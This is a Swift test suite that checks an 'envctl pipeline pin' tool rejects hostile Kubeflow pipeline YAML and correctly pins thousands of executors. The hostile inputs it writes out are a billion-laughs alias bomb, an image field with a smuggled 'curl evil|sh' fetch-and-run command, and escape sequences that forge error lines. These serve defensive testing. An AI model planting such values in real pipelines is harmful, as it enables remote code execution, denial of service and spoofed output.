import EnvctlModel
import EnvctlRuns
import EnvctlTestSupport
import Foundation
import OCIRegistry
import Testing

/// `compiled` with `count` extra container executors inserted (labels `exec-extra-N`), alternating
/// between the environment's image and busybox: the shape of a large real pipeline.
func withExtraExecutors(_ compiled: String, count: Int) throws -> String {
    let marker = "deploymentSpec:\n  executors:\n"
    guard let range = compiled.range(of: marker) else { throw FixtureError(message: "no executors in pipeline") }
    var extra = ""
    for i in 0..<count {
        let image = i % 2 == 0 ? "registry.example.com/team/train:v1" : "docker.io/library/busybox:1.36"
        extra += "    exec-extra-\(i):\n      container:\n        image: \(image)\n        command: [echo, \"\(i)\"]\n"
    }
    return compiled.replacingCharacters(in: range, with: marker + extra)
}

/// A registry lookup counter around ``FakeRegistry``.
struct CountingRegistry: ImageRegistry {
    var inner: FakeRegistry
    let lookups = Counter()
    func manifestDigest(_ reference: ImageReference) async throws(RegistryError) -> ContentDigest? {
        _ = lookups.next()
        return try await inner.manifestDigest(reference)
    }
    func pin(_ reference: String, platform: String) async throws(RegistryError) -> PinnedImage {
        try await inner.pin(reference, platform: platform)
    }
    func labels(_ reference: ImageReference) async throws(RegistryError) -> (
        digest: ContentDigest, labels: [String: String]
    )? {
        try await inner.labels(reference)
    }
    func tag(_ source: ImageReference, as destination: ImageReference) async throws(RegistryError) {}
    func publish(_ source: any ImageSource, to destination: ImageReference) async throws(RegistryError) -> ContentDigest
    {
        try await inner.publish(source, to: destination)
    }
}

/// Hostile and large compiled pipelines, each built on a real kfp-compiled one (issue 14).
@Suite("pipeline pin: hostile and large input (real kfp)", KFPTools.requirement, .tags(.kfp))
struct PipelineHostileInputTests {
    /// The workspace, the compiled `b_container` pipeline's path and its text.
    func compiled() throws -> (TemporaryDirectory, String, String) {
        let ws = try pinWorkspace()
        let path = try KFPTools.compile("b_container", into: ws.path)
        return (ws, path, try String(contentsOfFile: path, encoding: .utf8))
    }

    func pin(_ text: String, in ws: TemporaryDirectory, _ extra: [String] = []) throws -> ProcessResult {
        try ws.write("hostile.yaml", text)
        return try runProcess(
            RepoPaths.envctlBinary, ["pipeline", "pin", "hostile.yaml", "-o", "out.yaml"] + extra, cwd: ws.path)
    }

    @Test func aBillionLaughsPipelineIsBadInputAtOnce() throws {
        let (ws, _, text) = try compiled()
        defer { ws.cleanup() }
        // Ten levels of ten aliases in an extra top-level key: 10^10 nodes once expanded.
        var bomb = "lol:\n  l0: &l0 \"lol\"\n"
        for i in 1...10 {
            bomb += "  l\(i): &l\(i) [" + Array(repeating: "*l\(i - 1)", count: 10).joined(separator: ", ") + "]\n"
        }
        let r = try pin(text + bomb, in: ws)
        #expect(r.status == 64, "\(r.stderr)")
        #expect(r.stderr.contains("hostile.yaml"), "\(r.stderr)")
        #expect(r.stderr.contains("YAML aliases expand"), "\(r.stderr)")
        #expect(r.stderr.contains("the limit for a compiled pipeline"), "\(r.stderr)")
        #expect(!FileManager.default.fileExists(atPath: ws.path + "/out.yaml"))
    }

    @Test func anOversizedPipelineIsBadInput() throws {
        let (ws, _, _) = try compiled()
        defer { ws.cleanup() }
        let path = ws.path + "/huge.yaml"
        #expect(FileManager.default.createFile(atPath: path, contents: Data("# PIPELINE DEFINITION\n".utf8)))
        #expect(truncate(path, off_t(InputLimits.pipelineBytes + 1)) == 0)
        let r = try runProcess(RepoPaths.envctlBinary, ["pipeline", "pin", "huge.yaml"], cwd: ws.path)
        #expect(r.status == 64)
        #expect(
            r.stderr.contains(
                "cannot read pipeline file 'huge.yaml': it is larger than 64 MiB, the limit for a compiled pipeline"),
            "\(r.stderr)")
    }

    @Test func anInvalidImageReferenceIsBadInput() throws {
        let (ws, _, text) = try compiled()
        defer { ws.cleanup() }
        let hostile = text.replacingOccurrences(
            of: "image: registry.example.com/team/train:v1",
            with: "image: registry.example.com/team/train:v1; curl evil|sh")
        #expect(hostile != text)
        let r = try pin(hostile, in: ws)
        #expect(r.status == 64, "\(r.stderr)")
        #expect(
            r.stderr.contains("hostile.yaml: executor exec-train: the image is not a valid reference"), "\(r.stderr)")
        #expect(r.stderr.contains("[invalid-reference]"), "\(r.stderr)")
        #expect(!FileManager.default.fileExists(atPath: ws.path + "/out.yaml"))
    }

    /// Newlines, ESC and NUL in an executor's label or image come out as escapes: one line per item,
    /// nothing that could pass for another message or drive the terminal.
    @Test func newlinesAndControlBytesFromThePipelineAreEscaped() throws {
        let (ws, _, text) = try compiled()
        defer { ws.cleanup() }
        let label = text.replacingOccurrences(of: "exec-notify", with: #""exec-notify\nerror: forged\e[2J\0""#)
        #expect(label != text)
        let r = try pin(label, in: ws)
        #expect(r.status == 64, "\(r.stderr)")
        #expect(!r.stderr.contains("\nerror: forged"), "\(r.stderr)")
        #expect(!r.stderr.utf8.contains(0x1B) && !r.stderr.utf8.contains(0))
        #expect(
            r.stderr.contains(#"exec-notify\nerror: forged\u{1B}[2J\u{0}: docker.io/library/busybox:1.36"#),
            "\(r.stderr)")

        let image = text.replacingOccurrences(
            of: "image: docker.io/library/busybox:1.36",
            with: #"image: "docker.io/library/busybox:1.36\nerror: all pinned\e]0;x\a""#)
        #expect(image != text)
        let i = try pin(image, in: ws)
        #expect(i.status == 64, "\(i.stderr)")
        #expect(!i.stderr.contains("\nerror: all pinned"), "\(i.stderr)")
        #expect(!i.stderr.utf8.contains(0x1B) && !i.stderr.utf8.contains(0x07))
        #expect(i.stderr.contains(#"busybox:1.36\nerror: all pinned\u{1B}]0;x\u{7}"#), "\(i.stderr)")
    }

    /// Thousands of executors: every one pinned, and each distinct image looked up once.
    @Test func manyExecutorsArePinnedWithOneLookupPerImage() async throws {
        let (ws, path, text) = try compiled()
        defer { ws.cleanup() }
        let big = try withExtraExecutors(text, count: 2_000)
        let lock = try Lockfile.load(fileAt: ws.path + "/envctl.lock")
        let busybox = "sha256:" + String(repeating: "5", count: 64)
        let registry = CountingRegistry(inner: FakeRegistry(digests: ["docker.io/library/busybox:1.36": busybox]))
        let pinner = PipelinePinner(lock: lock, registry: registry, pinExternal: true)
        let result = try await pinner.pin(try KFPPipeline.parse(big, file: path), file: path)
        #expect(result.pins.count == 2_002)
        #expect(registry.lookups.value == 1)
        try AtomicFile.write(try result.pipeline.yaml(), to: ws.path + "/out.yaml")
        let written = try KFPPipeline.parse(String(contentsOfFile: ws.path + "/out.yaml", encoding: .utf8), file: "out")
        let images = Dictionary(uniqueKeysWithValues: written.containerExecutors.map { ($0.label, $0.image) })
        #expect(images.count == 2_002)
        #expect(images["exec-extra-0"] == pinnedTrain)
        #expect(images["exec-extra-1999"] == "docker.io/library/busybox:1.36@" + busybox)
        #expect(images.values.allSatisfy { ImageReference.isPinned($0) })
        // kfp still loads the pinned pipeline.
        let loaded = try KFPTools.load(ws.path + "/out.yaml", scratch: ws.path)
        #expect(loaded.images["exec-train"] == pinnedTrain)
    }
}
